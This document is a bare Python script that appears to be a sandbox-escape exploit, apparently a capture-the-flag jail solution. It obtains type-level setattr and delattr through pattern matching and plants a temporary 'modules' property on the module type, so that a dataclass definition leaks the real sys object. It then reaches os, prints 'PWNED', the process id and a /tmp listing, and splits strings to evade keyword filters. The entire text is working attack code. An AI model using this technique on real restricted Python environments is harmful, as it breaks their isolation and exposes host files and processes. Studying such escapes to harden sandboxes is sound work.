import json, dataclasses
got = []
match type(int):
    case object(__setattr__=ts, __delattr__=td):
        pass
GM = type(json)
key = "mod" + "ules"
def fget(self):
    got.append(self)
    td(GM, key)          # take the descriptor off again
    return self.modules  # now the real attribute
ts(GM, key, property(fget))
@dataclasses.dataclass
class D:
    x: int = 0
real_sys = got[0]
mods = real_sys.modules
o = mods["o" + "s"]
print("PW" + "NED", type(real_sys), len(mods), o.getpid(), sorted(o.listdir("/tmp")))
